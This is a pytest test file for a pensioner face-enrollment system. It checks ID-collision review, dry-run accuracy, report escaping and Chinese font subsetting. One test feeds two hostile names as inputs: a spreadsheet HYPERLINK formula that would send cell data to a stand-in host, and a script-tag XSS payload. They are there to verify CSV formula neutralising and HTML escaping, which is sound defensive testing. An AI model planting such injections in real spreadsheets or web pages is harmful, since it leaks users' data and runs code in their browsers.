"""An ID number already enrolled for somebody else: never silently replaced; a dry run says so."""

from __future__ import annotations

from pathlib import Path

from sqlalchemy import func, select

from lifecert.domain.cases import IdCollision, load_payload
from lifecert.services.context import AppContext
from lifecert.storage.models import EnrollmentRun, FaceTemplate, Pensioner, ReviewCase
from tests.integration.test_enrollment_job import ids, lfw_people, reasons, run, write_manifest


def _folder(root: Path, name: str, files: dict[str, Path]) -> Path:
    d = root / name
    d.mkdir()
    for fname, src in files.items():
        (d / fname).write_bytes(src.read_bytes())
    return d


def test_given_an_enrolled_id_when_another_face_and_name_come_with_it_then_review_not_replace_and_dry_run_agrees(
    ctx: AppContext, faces_dir: Path, tmp_path: Path
) -> None:
    a, b = (p[0] for p in lfw_people(faces_dir, 2))
    idn = ids(1)[0]
    first = _folder(tmp_path, "first", {"a.jpg": a})
    assert reasons(run(ctx, first, write_manifest(first, [(idn, "王五", "a.jpg")]))) == {1: "ENROLLED"}
    typo = _folder(tmp_path, "typo", {"b.jpg": b})
    man = write_manifest(typo, [(idn, "李四", "b.jpg")])

    dry = run(ctx, typo, man, dry_run=True)
    assert reasons(dry) == {1: "ID_COLLISION"}, dry.rows
    assert "'王五'" in dry.rows[0]["detail"]
    with ctx.db.session() as s:
        assert s.scalar(select(func.count(EnrollmentRun.id))) == 1  # the dry run recorded nothing

    res = run(ctx, typo, man)
    assert reasons(res) == {1: "ID_COLLISION"}
    with ctx.db.session() as s:
        person = s.scalars(select(Pensioner).where(Pensioner.id_number == idn)).one()
        assert person.name == "王五"
        tpls = s.scalars(select(FaceTemplate)).all()
        assert [(t.active, t.pensioner_id) for t in tpls] == [(True, person.id)]
        case = s.scalars(select(ReviewCase).where(ReviewCase.reason == "ID_COLLISION")).one()
        pl = load_payload(case.payload)
        assert isinstance(pl, IdCollision) and case.pensioner_id == person.id
        assert (pl.manifest_name, pl.enrolled_name) == ("李四", person.name)
        assert pl.photo_sha256 is not None  # the new photo is kept for the reviewer


def test_given_a_dry_run_when_rows_repeat_a_face_or_an_enrolled_photo_then_it_reports_what_a_real_run_would(
    ctx: AppContext, faces_dir: Path, tmp_path: Path
) -> None:
    a, b = (p[0] for p in lfw_people(faces_dir, 2))
    idn = ids(4)
    first = _folder(tmp_path, "first", {"a.jpg": a})
    run(ctx, first, write_manifest(first, [(idn[0], "王五", "a.jpg")]))
    second = _folder(tmp_path, "second", {"a.jpg": a, "b.jpg": b, "b2.jpg": b})
    man = write_manifest(second, [(idn[0], "王五", "a.jpg"), (idn[1], "甲", "b.jpg"), (idn[2], "乙", "b2.jpg")])
    dry = reasons(run(ctx, second, man, dry_run=True))
    assert dry == {1: "ALREADY_ENROLLED", 2: "ENROLLED", 3: "DUPLICATE_FACE"}
    assert reasons(run(ctx, second, man)) == dry


def test_given_hostile_names_when_reported_then_csv_cells_cannot_run_formulas_and_html_is_escaped(
    ctx: AppContext, faces_dir: Path, tmp_path: Path
) -> None:
    a = lfw_people(faces_dir, 1)[0][0]
    d = _folder(tmp_path, "hostile", {"a.jpg": a})
    formula, script = '=HYPERLINK("http://x.example/?"&A1,"点我")', "<script>alert(1)</script>"
    res = run(ctx, d, write_manifest(d, [(ids(1)[0], formula, "a.jpg"), (ids(2)[1], script, "missing.jpg")]))
    text = res.reports["csv"].read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    html = res.reports["html"].read_text(encoding="utf-8")
    assert "<script>alert" not in html and "&lt;script&gt;" in html
    # Chinese stays readable on a computer without a Chinese font: a subset is embedded when this
    # machine has one (CI installs fonts-wqy-microhei), else the page says what to do.
    assert ("@font-face" in html) != ("fonts-noto-cjk" in html)


def test_given_chinese_text_when_a_font_subset_is_cut_then_it_covers_exactly_those_characters(tmp_path: Path) -> None:
    import base64
    import io

    import pytest
    from fontTools.ttLib import TTFont

    from enrollment.report import CJK_FONTS, cjk_font_subset

    assert cjk_font_subset("张桂兰", fonts=(tmp_path / "none.ttc",)) is None
    assert cjk_font_subset("ascii only", fonts=CJK_FONTS) is None
    if not any(f.is_file() for f in CJK_FONTS):
        pytest.skip("no Chinese font installed here (.ci/run installs fonts-wqy-microhei)")
    b64 = cjk_font_subset("<b>张桂兰 · 欧阳娜娜</b>")
    assert b64 is not None
    cmap = TTFont(io.BytesIO(base64.b64decode(b64))).getBestCmap()
    assert {chr(c) for c in cmap} >= set("张桂兰欧阳娜·") and len(cmap) < 40
